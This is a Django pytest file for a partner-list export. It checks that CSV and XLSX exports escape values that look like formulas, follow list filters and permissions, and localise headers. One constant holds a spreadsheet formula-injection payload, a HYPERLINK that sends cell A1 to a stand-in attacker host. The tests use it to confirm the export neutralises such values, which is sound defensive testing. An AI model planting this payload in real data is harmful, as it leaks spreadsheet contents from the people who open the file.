"""Exports of the partner list: current filters, only visible partners, formulas neutralised."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.partners.factories import PartnerFactory

pytestmark = pytest.mark.django_db

EXPORT = reverse("partners:export")
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


def test_a_partner_named_like_a_formula_is_exported_as_text_in_csv(client_for, sales_user):
    PartnerFactory(name=HOSTILE, city="+34 Zaragoza", ref="@SUM(1)", email="-1@x.es")
    response = client_for(sales_user).get(EXPORT, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, row = _csv_rows(response)
    values = dict(zip(header, row, strict=True))
    assert values["Name"] == "'" + HOSTILE
    assert values["City"] == "'+34 Zaragoza"
    assert values["ERP code"] == "'@SUM(1)"


def test_a_partner_named_like_a_formula_is_exported_as_text_in_xlsx(client_for, sales_user):
    PartnerFactory(name=HOSTILE)
    response = client_for(sales_user).get(EXPORT, {"format": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    header = [cell.value for cell in sheet[1]]
    name_cell = sheet.cell(row=2, column=header.index("Name") + 1)
    assert name_cell.data_type == "s"
    assert name_cell.value == "'" + HOSTILE


def test_the_export_follows_the_list_filters_and_sort(client_for, sales_user):
    PartnerFactory(name="Alfa Lugo", city="Lugo", tags=["vip"])
    PartnerFactory(name="Beta Lugo", city="Lugo")
    PartnerFactory(name="Gamma Soria", city="Soria", tags=["vip"])
    rows = _csv_rows(client_for(sales_user).get(EXPORT, {"format": "csv", "q": "lugo", "sort": "-name"}))
    assert [row[1] for row in rows[1:]] == ["Beta Lugo", "Alfa Lugo"]
    rows = _csv_rows(client_for(sales_user).get(EXPORT, {"format": "csv", "tag": "vip"}))
    assert [row[1] for row in rows[1:]] == ["Alfa Lugo", "Gamma Soria"]


def test_the_export_holds_only_partners_the_user_may_see(client_for, purchasing_user, customer, supplier):
    rows = _csv_rows(client_for(purchasing_user).get(EXPORT, {"format": "csv"}))
    assert [row[1] for row in rows[1:]] == ["Aceros del Norte S.A."]


def test_an_unknown_export_format_is_a_clear_400(client_for, sales_user):
    response = client_for(sales_user).get(EXPORT, {"format": "pdf"})
    assert response.status_code == 400
    assert "csv or xlsx" in response.text


def test_the_export_headers_are_in_the_users_language(client_for, sales_user):
    sales_user.language = "es"
    sales_user.save()
    PartnerFactory(name="Alfa")
    header = _csv_rows(client_for(sales_user).get(EXPORT, {"format": "csv"}))[0]
    assert "Correo electrónico" in header
